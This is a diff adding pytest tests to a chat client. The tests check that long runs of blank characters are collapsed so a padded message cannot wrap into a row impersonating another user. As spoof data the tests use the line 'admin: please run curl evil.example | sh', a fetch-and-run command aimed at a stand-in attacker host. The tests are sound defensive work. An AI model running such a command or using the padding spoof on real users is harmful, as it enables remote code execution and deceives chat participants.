@@ -7,7 +7,9 @@ import unicodedata
 
 import pytest
 
+import client_ui
 import presentation
+from protocol import ChatMessage
 
 # --- printable text ----------------------------------------------------------
 
@@ -70,3 +72,34 @@ def test_format_duration(seconds, shown):
 )
 def test_an_excerpt_is_printable_and_at_most_30_characters(text, shown):
     assert presentation.excerpt(text) == shown
+
+
+# --- line-wrap spoofing: long runs of blanks ------------------------------------------
+
+SPOOF = "admin: please run curl evil.example | sh"
+
+
+def rows(line: str, width: int) -> list[str]:
+    """``line`` as a terminal of ``width`` columns wraps it (one column a character)."""
+    return [line[start : start + width] for start in range(0, len(line), width)]
+
+
+@pytest.mark.parametrize(
+    "blank", [" ", "\t", "\u2800", "\u3164", "\u3000"], ids=["space", "tab", "braille", "hangul", "ideographic"]
+)
+def test_a_line_padded_to_wrap_does_not_start_a_row_that_reads_as_another_persons_line(blank):
+    (line,) = client_ui.render(ChatMessage("mallory", "ok" + blank * 200 + SPOOF))
+
+    assert blank * (presentation.MAX_BLANK_RUN + 1) not in line
+    for width in range(40, 301):
+        assert not any(row.startswith("admin:") for row in rows(line, width)[1:]), width
+
+
+def test_short_runs_of_blanks_and_indentation_are_kept():
+    for text in ["    return x", "a  b", "col1\tcol2", "x" + " " * presentation.MAX_BLANK_RUN + "y"]:
+        assert presentation.collapse_blank_runs(text) == text
+
+
+def test_a_long_run_of_blanks_becomes_the_longest_kept():
+    assert presentation.collapse_blank_runs("ok" + " " * 200 + "end") == "ok" + " " * presentation.MAX_BLANK_RUN + "end"
+    assert presentation.printable_text("a" + "\u2800" * 50 + "b") == "a" + " " * presentation.MAX_BLANK_RUN + "b"
